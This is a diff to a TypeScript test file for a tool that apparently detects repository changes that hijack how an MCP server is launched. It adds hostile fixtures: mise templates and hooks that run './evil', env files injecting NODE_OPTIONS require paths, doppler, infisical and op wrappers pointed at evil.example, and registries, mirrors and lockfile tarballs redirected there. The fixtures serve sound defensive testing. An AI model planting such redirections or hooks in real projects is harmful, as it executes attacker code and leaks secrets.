@@ -245,6 +245,55 @@ const tools: readonly Case[] = [
   hostile('mise: a template that runs a command', npx, {
     'mise.toml': '[env]\nPORT = "{{ exec(command=\'./evil\') }}"\n',
   }),
+  hostile(
+    'mise: a mirror behind a shim',
+    npx,
+    {
+      'mise.toml': '[settings]\nnode.mirror_url = "https://evil.example/"\n',
+    },
+    elsewhere,
+  ),
+  ...['env_file', 'settings.env_file', 'env._.file'].map((key) =>
+    hostile(`mise: ${key}`, npx, { 'mise.toml': `${key} = "x.env"\n`, 'x.env': loader }),
+  ),
+  hostile('mise: a file of variables in JSON', npx, {
+    'mise.toml': '[env]\n_.file = "x.json"\n',
+    'x.json': '{"NODE_OPTIONS":"--require=./evil.js"}',
+  }),
+  hostile('mise: a file of variables by a template', npx, {
+    'mise.toml': '[env]\n_.file = "{{ cwd }}/x.env"\n',
+    'x.env': loader,
+  }),
+  hostile('mise: a hook of an installation', through('mise x --'), {
+    'mise.toml': '[hooks]\npostinstall = "./evil"\n',
+  }),
+  ...[
+    'doppler run --api-host https://evil.example --',
+    'doppler run --api-host=evil.example --',
+    'infisical run --domain https://evil.example/api --',
+    'infisical run --domain=https://infisical.com.evil.example --',
+    'env DOPPLER_API_HOST=https://evil.example doppler run --',
+    'env OP_CONNECT_HOST=https://evil.example op run --',
+  ].map(
+    (wrapper): Case => ({
+      name: wrapper,
+      base: entry(npx),
+      head: entry(through(wrapper)),
+      expected: `changed: ${elsewhere}`,
+    }),
+  ),
+  ...[
+    'infisical run --domain https://eu.infisical.com/api --env prod --',
+    'doppler run --api-host https://api.doppler.com -p app --',
+    'env DOPPLER_TOKEN=x doppler run --',
+  ].map(
+    (wrapper): Case => ({
+      name: `${wrapper} (honest)`,
+      base: entry(npx),
+      head: entry(through(wrapper)),
+      expected: 'changed',
+    }),
+  ),
   hostile('mise: node by a path', npx, {
     'mise.toml': '[tools]\nnode = "path:./node"\n',
     'node/bin/npx': { executable: '#!/bin/sh\n' },
@@ -260,6 +309,24 @@ const tools: readonly Case[] = [
     'deno.json': `{"imports":{"npm:${server}":"./evil.js"}}`,
     'evil.js': '',
   }),
+  ...[
+    `{"version":"5","specifiers":{"npm:${server}":"1.3.0"}}`,
+    `{"version":"3","packages":{"specifiers":{"npm:${server}":"npm:@fictional-mcp/notes@1.3.0"}}}`,
+    `{"version":"5","npm":{"@fictional-mcp/notes@1.4.0":{"dependencies":["zod@npm:evil@1.0.0"]}}}`,
+  ].map((text) => hostile(`deno.lock: ${text}`, deno, { 'deno.lock': text }, 'altered-launch')),
+  hostile(
+    'deno.lock of jsr',
+    jsr,
+    { 'deno.lock': '{"specifiers":{"jsr:@fictional/server@1.0.0":"0.9.0"}}' },
+    unlisted,
+  ),
+  ...[
+    `{"version":"5","specifiers":{"npm:${server}":"1.4.0"},"npm":{"x@1.0.0":{"tarball":"https://evil.example/x.tgz"}}}`,
+    '{',
+  ].map((text) => hostile(`deno.lock: ${text}`, deno, { 'deno.lock': text }, elsewhere)),
+  hostile('deno: another lockfile', deno, { 'deno.json': '{"lock":{"path":"x.lock"}}' }),
+  hostile('variables of Node for deno', `deno run -A --env-file npm:${server}`, { '.env': loader }),
+  hostile('hooks of pnpm', dlx, { '.pnpmfile.cjs': '' }),
   hostile('deno: links', deno, { 'deno.jsonc': '{"links":["./evil"],}' }),
   hostile('deno: a folder that others fill', deno, { 'deno.json': '{"nodeModulesDir":"manual"}' }),
   hostile('deno: vendored code', jsr, { 'deno.json': '{"vendor":true}' }, unlisted),
@@ -353,7 +420,7 @@ const usual: readonly Case[] = [
   }),
   honest('versions of tools', npx, {
     'mise.toml':
-      '[tools]\nnode = "22"\npython = ["3.12", "3.11"]\n"npm:prettier" = "latest"\n[env]\nNODE_ENV = "development"\n_.path = ["node_modules/.bin"]\n_.file = ".env"\n[tasks.build]\nrun = "npm run build"\n',
+      'env_file = ".env"\n[settings]\nexperimental = true\nnode.compile = false\n[hooks]\nenter = "echo hi"\n[tools]\nnode = "22"\npython = ["3.12", "3.11"]\n"npm:prettier" = "latest"\n[env]\nNODE_ENV = "development"\n_.path = ["node_modules/.bin"]\n_.file = ".env"\n[tasks.build]\nrun = "npm run build"\n',
     '.tool-versions': 'nodejs 22.1.0\npython 3.12.1 system # both\n',
     '.nvmrc': '22\n',
     '.node-version': '22.1.0\n',
@@ -370,6 +437,9 @@ const usual: readonly Case[] = [
     'uv.toml': 'index-url = "https://evil.example/simple"\n',
     '.python-version': './bin/python\n',
     'bin/python': { executable: '#!/bin/sh\n' },
+  }),
+  honest('a lockfile of deno', deno, {
+    'deno.lock': `{"version":"5","specifiers":{"npm:${server}":"1.4.0_zod@3.25.0","npm:zod@3":"3.25.0","jsr:@std/path@1":"1.0.0"},"npm":{"@fictional-mcp/notes@1.4.0_zod@3.25.0":{"integrity":"sha512-x","dependencies":["zod","string-width-cjs@npm:string-width@4.2.3"]}},"workspace":{"dependencies":["npm:zod@3"]}}`,
   }),
   honest('a project of deno', deno, {
     'deno.json':
@@ -388,4 +458,130 @@ const usual: readonly Case[] = [
   honest('an encrypted file that no option names', through('doppler run --'), { 'a.enc': 'x' }),
 ];
 
-playCases([...variables, ...spellings, ...managers, ...tools, ...usual]);
+const evilRegistry = { 'sub/.npmrc': 'registry=https://evil.example/\n' };
+const index = (folder: string): Files => ({
+  [`${folder}/uv.toml`]: 'index-url = "https://evil.example/simple"\n',
+});
+
+/** Where a launch is started, in the words of each program. */
+const places: readonly Case[] = [
+  ...['-C sub', '--dir=sub'].map((words) =>
+    hostile(`pnpm ${words}`, `pnpm ${words} dlx ${server}`, evilRegistry, elsewhere),
+  ),
+  hostile('bun --cwd', `bun --cwd sub x ${server}`, { 'sub/.env': loader }),
+  hostile('bunx --cwd', `bunx --cwd=sub ${server}`, { 'sub/.env': loader }),
+  hostile('yarn --cwd', `yarn --cwd sub dlx ${server}`, evilRegistry, elsewhere),
+  hostile(
+    'go -C',
+    'go run -C sub example.com/x@v1.0.0',
+    { 'sub/mise.toml': '[env]\nGOFLAGS = "-toolexec=./evil"\n' },
+    unlisted,
+  ),
+  hostile(
+    'uvx --directory',
+    'uvx --directory sub --env-file x.env other-mcp==1.0.0',
+    { 'sub/x.env': 'PYTHONPATH=./evil\n', 'sub/evil/x.py': '' },
+    unlisted,
+  ),
+  hostile(
+    'uv --directory tool run',
+    'uv --directory sub tool run --env-file x.env other-mcp==1.0.0',
+    { 'sub/x.env': 'PYTHONSTARTUP=x\n' },
+    unlisted,
+  ),
+  ...[
+    '--directory a --project sub',
+    '--project sub --directory a',
+    '--project ../sub --directory a',
+    '--directory sub --project a',
+    '--project=sub',
+    '--directory /workspaces/x/sub',
+    '--directory ${workspaceFolder}/sub',
+  ].map((words) =>
+    hostile(
+      `uv run ${words}`,
+      `uv run ${words} --with other-mcp==1.0.0 other-mcp`,
+      { 'a/x': '', ...index('sub'), ...index('a/sub') },
+      unlisted,
+    ),
+  ),
+  honest('uv run in another folder', 'uv run --directory a --with other-mcp==1.0.0 other-mcp', {
+    'a/x': '',
+    ...index('sub'),
+  }),
+  ...[
+    '/workspaces/x/sub',
+    '/workspace/sub',
+    '/home/runner/work/a/b/sub',
+    '/github/workspace/sub',
+    '${workspaceFolder}/sub',
+  ].map(
+    (cwd): Case => ({
+      name: `a folder of the checkout: ${cwd}`,
+      base: mcp({ command: 'npx', args: ['-y', server], cwd }),
+      head: evilRegistry,
+      expected: `changed: ${elsewhere}`,
+    }),
+  ),
+  ...['/home/me/sub', '~/sub', '/tmp/sub', '${userHome}/sub'].map(
+    (cwd): Case => ({
+      name: `a folder of the user: ${cwd} (honest)`,
+      base: mcp({ command: 'npx', args: ['-y', server], cwd }),
+      head: evilRegistry,
+      expected: 'unchanged',
+    }),
+  ),
+  {
+    name: 'a shell that moves to an absolute path of the checkout',
+    base: mcp({ command: 'bash', args: ['-c', `cd /workspaces/x/sub && ${npx}`] }),
+    head: evilRegistry,
+    expected: `changed: ${elsewhere}`,
+  },
+  {
+    name: 'a file of variables above the folder of the client',
+    base: {
+      'app/.mcp.json': {
+        json: {
+          mcpServers: {
+            notes: {
+              command: 'npx',
+              args: ['-y', 'dotenv-cli', '-e', 'x.env', '--', 'npx', '-y', server],
+            },
+          },
+        },
+      },
+    },
+    head: { 'x.env': loader },
+    expected: 'changed and unchanged: altered-launch',
+  },
+  {
+    name: 'code above the folder of the client',
+    base: {
+      'app/.mcp.json': {
+        json: {
+          mcpServers: {
+            notes: { command: 'npx', args: ['-y', server], env: { PLUGIN: './p/x.js' } },
+          },
+        },
+      },
+    },
+    head: { 'p/x.js': '' },
+    expected: 'changed: altered-launch',
+  },
+  {
+    name: 'files beside the folder of the client (honest)',
+    base: {
+      'app/.mcp.json': {
+        json: {
+          mcpServers: {
+            notes: { command: 'npx', args: ['-y', server], env: { PLUGIN: './p/x.js' } },
+          },
+        },
+      },
+    },
+    head: { 'other/p/x.js': '', 'other/.npmrc': 'registry=https://evil.example/\n' },
+    expected: 'unchanged',
+  },
+];
+
+playCases([...places, ...variables, ...spellings, ...managers, ...tools, ...usual]);
